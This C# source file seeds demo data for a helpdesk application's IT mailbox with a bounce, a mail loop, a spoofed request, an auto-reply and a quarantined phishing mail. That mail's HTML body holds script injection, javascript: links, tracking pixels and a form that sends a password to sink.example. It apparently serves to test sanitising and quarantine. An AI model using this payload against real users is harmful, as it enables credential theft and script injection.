using System.Security.Cryptography;
using System.Text;
using Headway.Application.Mail;
using Headway.Application.Storage;
using Headway.Application.Tickets;
using NodaTime;

namespace Headway.Application.Demo;

/// <summary>The demo's mailbox and what came to it lately: answers, a loop that was stopped, a stranger, a mail that came back, an attack.</summary>
internal static class DemoMail
{
    private const string Address = "it@demo.example";

    private static readonly Sent[] Morning =
    [
        new(4, "Partner News <news@partner.example>", "Autumn news of our partner", "list", Fate.Ignored, "list",
            "Precedence: bulk\nList-Id: <news.partner.example>", "Our autumn news: new opening hours, and a draw among all readers."),
        new(38, "IT <it@demo.example>", "Re: Your request is here", "person", Fate.Ignored, "own-mail", "X-Original-To: it@demo.example", "A forwarding rule of a former colleague sent our own acknowledgement back to us."),
        new(39, "IT <it@demo.example>", "Re: Re: Your request is here", "person", Fate.Ignored, "own-mail", "X-Original-To: it@demo.example", "And once more, until the rule was switched off."),
        new(52, "Mail Delivery System <MAILER-DAEMON@mx.demo.example>", "Undelivered Mail Returned to Sender", "bounce", Fate.Ignored, "bounce-again",
            "Auto-Submitted: auto-replied\nReturn-Path: <>", "This is the mail system. The mailbox p.novak@demo.example does not exist (5.1.1)."),
        new(61, "Sam Field <sam@demo.example>", "Please close all tickets of Accounting", "person", Fate.Quarantined, "agent-unproven",
            "Authentication-Results: mx.demo.example; spf=fail smtp.mailfrom=elsewhere.example; dmarc=none", "It is urgent. Close them and send me the list of people.\n\nSam"),
        new(74, "Payroll Service <payroll@salary-update.example>", "Your payslip is ready: sign in again", "person", Fate.Quarantined, "not-genuine",
            "Authentication-Results: mx.demo.example; dmarc=fail header.from=salary-update.example", Attack),
        new(96, "Jana Ott <jana.ott@home.example>", "Re: [#{0}] Laptop does not wake up", "person", Fate.Quarantined, "stranger-in-thread", "", "I write from my private address since the laptop is dead. It still does not wake up."),
        new(120, "Monitor <monitor@watch.example>", "Disk of print server at 91 %", "report", Fate.Quarantined, "budget-sender", "Auto-Submitted: auto-generated", "The eleventh report within this hour."),
        new(131, "Tim Brandt <tim.brandt@demo.example>", "Abwesenheitsnotiz: Ihre Anfrage", "auto-reply", Fate.Ignored, "auto-reply", "Auto-Submitted: auto-replied", "Ich bin bis Freitag nicht im Büro."),
    ];

    private const string Attack = """
        <html><body><script>top.document.title='owned'</script><div style="position:fixed;inset:0;background:url(https://sink.example/seen)">
        <p>Dear colleague, your <b>payslip</b> is ready.</p><img src="https://sink.example/pixel.gif" alt="logo" onerror="alert(1)">
        <form action="https://sink.example/take"><input name="password"><button>Sign in</button></form>
        <p><a href="javascript:alert(2)">Open it</a> or <a href="https://salary-update.example/in">sign in here</a>.</p></div></body></html>
        """;

    public static async Task Lay(Database database, Instant now, CancellationToken stop)
    {
        var tenant = DemoBuilder.Tenant.Value;
        var number = await database.Read(
            session => session.Number("SELECT number FROM tickets WHERE tenant = $1 AND state = 'open' AND lower(channel) = 'mail' ORDER BY number DESC LIMIT 1", tenant).AsTask(), stop) ?? 1;
        var blobs = new Blobs(database);
        var box = await database.Counters.NextId(stop);
        var kept = new List<(Sent Mail, StoredFile Raw, long Id)>();
        foreach (var mail in Morning)
        {
            using var bytes = new MemoryStream(Encoding.UTF8.GetBytes(mail.Message(now, number)));
            kept.Add((mail, (await blobs.Put(DemoBuilder.Tenant, bytes, stop: stop)).Value, await database.Counters.NextId(stop)));
        }

        await database.Write(
            async session =>
            {
                var at = now.ToUnixTimeMilliseconds();
                await session.Do(
                    "INSERT INTO mailboxes (tenant, id, name, address, address_key, body, active, created, success_at, failures) VALUES ($1, $2, 'IT', $3, $3, $4, true, $5, $5, 0)",
                    tenant, box, Address, new MailboxServer(AuthservId: "mx.demo.example").Json(), at);
                foreach (var (mail, raw, id) in kept)
                {
                    var (name, address) = mail.Sender;
                    await session.Run(
                        """
                        INSERT INTO mails (tenant, id, key, mailbox, received, raw, bytes, message_id, sender, sender_key, sender_name, subject, class, fate, reason, acknowledged, repeats)
                        VALUES ($1, $2, $3, $4, $5, $6, $7, $8, $9, $10, $11, $12, $13, $14, $15, false, 0)
                        """,
                        tenant, id, Convert.ToHexStringLower(SHA256.HashData(Encoding.UTF8.GetBytes($"demo {id}"))), box, at - (mail.MinutesAgo * 60_000L), raw.Hash, raw.Length, mail.Id, address, EmailKey.Of(address),
                        name, mail.Subject.Replace("{0}", number.ToString(System.Globalization.CultureInfo.InvariantCulture), StringComparison.Ordinal), mail.Class, MailRecord.Code(mail.Fate), mail.Reason);
                }

                await session.Do(
                    "INSERT INTO copied_people (tenant, ticket, address_key, address, name, state, since) SELECT $1, t.ticket, $3, $3, $4, 'waiting', $5 FROM tickets t WHERE t.tenant = $1 AND t.number = $2",
                    tenant, number, "r.vogel@partner.example", "Rita Vogel", at - (96 * 60_000L));
                await session.Do(
                    "INSERT INTO bounced_addresses (tenant, address_key, address, permanent, reason, mail, since, times) VALUES ($1, $2, $2, true, '5.1.1', $3, $4, 2)",
                    tenant, "p.novak@demo.example", kept[3].Id, at - (52 * 60_000L));
            },
            stop);
    }

    private sealed record Sent(int MinutesAgo, string From, string Subject, string Class, Fate Fate, string Reason, string Headers, string Body)
    {
        public string Id => string.Create(System.Globalization.CultureInfo.InvariantCulture, $"demo-{MinutesAgo}@client.example");

        public (string Name, string Address) Sender => (From[..From.IndexOf('<', StringComparison.Ordinal)].Trim(), From[(From.IndexOf('<', StringComparison.Ordinal) + 1)..^1]);

        public string Message(Instant now, long number) => string.Join("\r\n", [
            .. Headers.Split('\n', StringSplitOptions.RemoveEmptyEntries), $"From: {From}", $"To: {Address}",
            $"Subject: {Subject.Replace("{0}", number.ToString(System.Globalization.CultureInfo.InvariantCulture), StringComparison.Ordinal)}", $"Message-ID: <{Id}>",
            $"Date: {(now - Duration.FromMinutes(MinutesAgo)).ToDateTimeUtc():r}", "MIME-Version: 1.0", $"Content-Type: text/{(Body.StartsWith('<') ? "html" : "plain")}; charset=utf-8", "", Body.ReplaceLineEndings("\r\n"), ""]);
    }
}
